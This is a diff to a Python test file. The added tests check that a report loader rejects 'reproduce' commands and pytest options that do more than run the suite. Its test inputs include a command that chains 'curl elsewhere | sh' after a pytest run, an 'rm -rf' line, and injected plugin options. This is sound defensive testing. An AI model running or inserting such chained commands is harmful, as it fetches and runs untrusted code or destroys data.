@@ -242,11 +242,22 @@ def test_cases_that_one_run_alone_has_are_told() -> None:
         side_by_side(reports.REPORT, side_by_side(reports.REPORT, another()))
 
 
-def test_a_report_shows_no_command_that_is_more_than_one(tmp_path: Path) -> None:
+@pytest.mark.parametrize("line", ["pytest tests/perf; curl elsewhere | sh", "rm -rf x"])
+def test_a_report_shows_no_command_that_does_anything_else(tmp_path: Path, line: str) -> None:
     """It may come from another machine, and a reader copies it."""
-    report = reports.with_case(reproduce="pytest tests/perf; curl elsewhere | sh")
+    report = reports.with_case(reproduce=line)
     (tmp_path / "report.json").write_bytes(msgspec.json.encode(report))
-    with pytest.raises(ReportError, match="is no plain command"):
+    with pytest.raises(ReportError, match="is no command of the suite"):
+        load_report(tmp_path / "report.json")
+
+
+@pytest.mark.parametrize("option", ["-p evil", "--rootdir=x", "--specreg-tier=a\nb", "evil.py"])
+def test_a_report_repeats_no_option_of_anything_else(tmp_path: Path, option: str) -> None:
+    """The commands that its page shows are made with them."""
+    origin = msgspec.structs.replace(reports.REPORT.origin, options=(option,))
+    report = msgspec.structs.replace(reports.REPORT, origin=origin)
+    (tmp_path / "report.json").write_bytes(msgspec.json.encode(report))
+    with pytest.raises(ReportError, match="no option of the suite"):
         load_report(tmp_path / "report.json")
 
 
